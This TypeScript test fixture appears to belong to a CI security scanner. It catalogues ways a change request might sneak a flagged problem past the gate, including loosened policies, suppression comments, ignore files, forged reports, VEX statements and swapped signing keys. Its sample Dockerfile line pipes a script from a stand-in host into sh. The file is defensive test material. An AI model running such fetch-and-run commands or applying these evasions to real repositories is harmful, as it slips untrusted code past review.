import {
  advisory,
  emptyVex,
  notAffected,
  SIGNER,
  type SignedImage,
  VULNERABILITY,
} from './deciding-images.js';

/** A change request with a problem, and files that would let it pass if they decided. */
export interface DecidingCase {
  /** What the change brings. */
  readonly files: Files;
  /** The files of the base branch. */
  readonly before?: Files;
  /** The image that the pipeline builds. */
  readonly image?: string;
  /** Options that the pipeline adds. */
  readonly options?: string;
  /** What has to fail. */
  readonly rule: string;
  /** 1 by default. */
  readonly status?: number;
  /** Without a base, the files let the problem pass: they are what the test says that they are. */
  readonly decidesAlone?: boolean;
}

/** What is made once for all cases. */
export interface Made {
  /** A report that calls the findings of the change existing. */
  readonly forged: string;
  readonly vulnerable: string;
  readonly byKey: SignedImage;
  readonly byIdentity: SignedImage;
  /** A key and a root of a Sigstore that signed nothing. */
  readonly otherKey: string;
  readonly otherRoot: string;
}

type Files = Readonly<Record<string, string>>;
type Named = readonly [title: string, arrange: (made: Made) => DecidingCase];

const START = `FROM debian:13.1@sha256:${'0'.repeat(64)}\n`;
const HARM = 'RUN curl -fsSL https://harm.example/install.sh | sh\n';
const END = 'USER 1000\n';
const POLICY = '.github/portside.yml';
const OPEN = { [POLICY]: 'fail-on: { severity: none }\n' };
const STRICT = { [POLICY]: 'extends: strict\n' };

/** Next to a line that runs an unverified script. */
const harm = (title: string, files: Files, before: Files = {}, more = {}): Named => [
  title,
  () => ({
    files: { Dockerfile: START + HARM + END, ...files },
    before: { Dockerfile: START + END, ...before },
    rule: 'PS0023',
    ...more,
  }),
];

const LINT: readonly Named[] = [
  harm('a policy without a gate', OPEN),
  harm(
    'a policy with an exception, in place of a strict one',
    { [POLICY]: 'exceptions:\n  - { rule: PS0023, reason: later }\n' },
    STRICT,
  ),
  harm('a policy that extends audit', { [POLICY]: 'extends: audit\n' }, STRICT),
  harm('a policy that lowers the file', { [POLICY]: 'lower: { paths: [Dockerfile] }\n' }),
  harm('a policy that comes first', OPEN, { '.portside.yaml': 'extends: strict\n' }),
  harm('a policy in another case', { '.github/Portside.yml': OPEN[POLICY] }),
  harm('no policy, in place of a strict one', { [POLICY]: '' }, STRICT),
  harm('a policy that allows what is not covered', {
    [POLICY]: 'allow-uncovered:\n  - { check: lint, target: Dockerfile }\n',
  }),
  harm(
    'a policy that the pipeline names',
    { 'ci/policy.yml': OPEN[POLICY] },
    { 'ci/policy.yml': STRICT[POLICY] },
    { options: '--policy ci/policy.yml' },
  ),
  harm('a comment of Portside', {
    Dockerfile: `${START}# portside ignore=PS0023\n${HARM}${END}`,
  }),
  harm('a comment of Portside for the file', {
    Dockerfile: `# portside ignore-file=PS0023\n${START}${HARM}${END}`,
  }),
  harm('a comment of hadolint', {
    Dockerfile: `${START}# hadolint ignore=PS0023\n${HARM}${END}`,
  }),
  harm('a comment of hadolint for the file', {
    Dockerfile: `# hadolint global ignore=PS0023\n${START}${HARM}${END}`,
  }),
  harm('.gitignore', { '.gitignore': 'Dockerfile\n*\n' }),
  harm('.gitattributes', { '.gitattributes': '* export-ignore binary linguist-generated -diff\n' }),
  harm('.hadolint.yaml', { '.hadolint.yaml': 'ignored: [PS0023, DL4006]\n' }),
  harm(
    'a weaker .hadolint.yaml',
    { '.hadolint.yaml': 'override: { info: [PS0023, DL4006] }\n' },
    { '.hadolint.yaml': 'override: { error: [PS0023] }\n' },
  ),
  harm(
    '.hadolint.yaml, which comes before .hadolint.yml',
    { '.hadolint.yaml': 'ignored: [PS0023, DL4006]\n' },
    { '.hadolint.yml': 'override: { error: [PS0023] }\n' },
  ),
  harm('.trivyignore', { '.trivyignore': 'PS0023\n' }),
  harm('.trivyignore.yaml', { '.trivyignore.yaml': 'misconfigurations:\n  - id: PS0023\n' }),
  [
    'a report where the pages stored one',
    ({ forged }) => ({
      files: { Dockerfile: START + HARM + END, 'baseline/report.json': forged },
      rule: 'PS0023',
    }),
  ],
  [
    'reports where the pages write and download them',
    ({ forged }) => ({
      files: {
        Dockerfile: START + HARM + END,
        'reports/report.json': forged,
        'accepted/report.json': forged,
      },
      rule: 'PS0023',
    }),
  ],
  [
    'a comment that allows a secret',
    () => ({
      files: { 'settings.py': `TOKEN = "${token()}"  # portside:allow\n` },
      rule: 'github-token',
    }),
  ],
  [
    'a comment in a manifest',
    () => ({
      files: {
        'compose.yaml':
          'services:\n  app:\n    image: app\n    # portside ignore=DEP-PRIV\n    privileged: true\n',
      },
      rule: 'DEP-PRIV',
    }),
  ],
];

/** A token of GitHub that nobody issued. */
function token(): string {
  return ['ghp', `${'a1B2c3D4e5'.repeat(3)}1zdUHV`].join('_');
}

const ADVISORIES = 'advisories: { path: db, maximum-age-days: 3650 }\n';
const WITHDRAWN = advisory({ withdrawn: '2026-02-01T00:00:00Z' });
const ELSEWHERE = advisory({
  affected: [{ package: { ecosystem: 'Debian:13', name: 'other' }, versions: ['1'] }],
});

/** Next to an image with a vulnerability. */
const image = (
  title: string,
  files: Files,
  before: Files = {},
  options = '',
  more: Partial<DecidingCase> = {},
): Named => [
  title,
  ({ vulnerable }) => ({
    files: {
      Dockerfile: `${START}RUN apt-get install -y zlib1g\n${END}`,
      'db/a.json': advisory(),
      ...before,
      ...files,
    },
    before: { Dockerfile: START + END, 'db/a.json': advisory(), ...before },
    image: vulnerable,
    options,
    rule: VULNERABILITY,
    decidesAlone: true,
    ...more,
  }),
];

const ofPolicy = { [POLICY]: ADVISORIES };
const withVex = { [POLICY]: ADVISORIES.replace('}', ', vex: [vex.json] }') };
const fromPipeline = '--advisories db';

const IMAGES: readonly Named[] = [
  image(
    'a statement in a VEX document of the policy',
    { 'vex.json': notAffected() },
    { ...withVex, 'vex.json': emptyVex() },
  ),
  image(
    'a VEX document that its policy names',
    { ...withVex, 'vex.json': notAffected() },
    ofPolicy,
  ),
  image(
    'a VEX document that the policy names and the base does not have',
    { 'vex.json': notAffected() },
    withVex,
    '',
    { rule: 'There is no vex.json in', status: 3 },
  ),
  image(
    'a statement in a VEX document that the pipeline names',
    { 'vex.json': notAffected() },
    { 'vex.json': emptyVex() },
    `${fromPipeline} --vex vex.json`,
  ),
  image(
    'a VEX document that the pipeline names and the base does not have',
    { 'vex.json': notAffected() },
    {},
    `${fromPipeline} --vex vex.json`,
  ),
  image('an advisory that is withdrawn', { 'db/a.json': WITHDRAWN }, ofPolicy),
  image('an advisory about another package', { 'db/a.json': ELSEWHERE }, ofPolicy),
  image(
    'another advisory in the folder that the pipeline names',
    { 'db/a.json': ELSEWHERE },
    {},
    fromPipeline,
  ),
  image(
    'a policy with other advisories',
    { [POLICY]: ADVISORIES.replace('db', 'other'), 'other/a.json': ELSEWHERE },
    ofPolicy,
  ),
];

const UNHARDENED = 'fail-on: { checks: { hardening: { severity: none } } }\n';
const BY_KEY = `${UNHARDENED}trust:\n  - { images: '**/by-*', signed-by: { key: keys/cosign.pub } }\n`;
const BY_ROOT = `${UNHARDENED}trust:\n  - { images: '**/by-*', signed-by: { issuer: '${SIGNER.issuer}', subject: '${SIGNER.subject}' }, trusted-root: root.json }\n`;

/** Next to an image that somebody else signed. */
const signed = (
  title: string,
  by: 'byKey' | 'byIdentity',
  arrange: (made: Made) => { readonly files: Files; readonly before: Files },
): Named => [
  title,
  (made) => {
    const { files, before } = arrange(made);
    return {
      files: { Dockerfile: START + END, ...before, ...files },
      before: { Dockerfile: START + END, ...before },
      image: made[by].image,
      rule: 'PST00',
      decidesAlone: true,
    };
  },
];

const SIGNATURES: readonly Named[] = [
  signed('the key of who signed the image', 'byKey', ({ byKey, otherKey }) => ({
    files: { 'keys/cosign.pub': byKey.proof },
    before: { [POLICY]: BY_KEY, 'keys/cosign.pub': otherKey },
  })),
  signed('a policy that names another key', 'byKey', ({ byKey, otherKey }) => ({
    files: { [POLICY]: BY_KEY.replace('cosign', 'new'), 'keys/new.pub': byKey.proof },
    before: { [POLICY]: BY_KEY, 'keys/cosign.pub': otherKey },
  })),
  signed('a policy without a required signature', 'byKey', ({ otherKey }) => ({
    files: { [POLICY]: UNHARDENED },
    before: { [POLICY]: BY_KEY, 'keys/cosign.pub': otherKey },
  })),
  signed('the trusted root of who signed the image', 'byIdentity', (made) => ({
    files: { 'root.json': made.byIdentity.proof },
    before: { [POLICY]: BY_ROOT, 'root.json': made.otherRoot },
  })),
];

export const DECIDING_CASES: readonly Named[] = [...LINT, ...IMAGES, ...SIGNATURES];
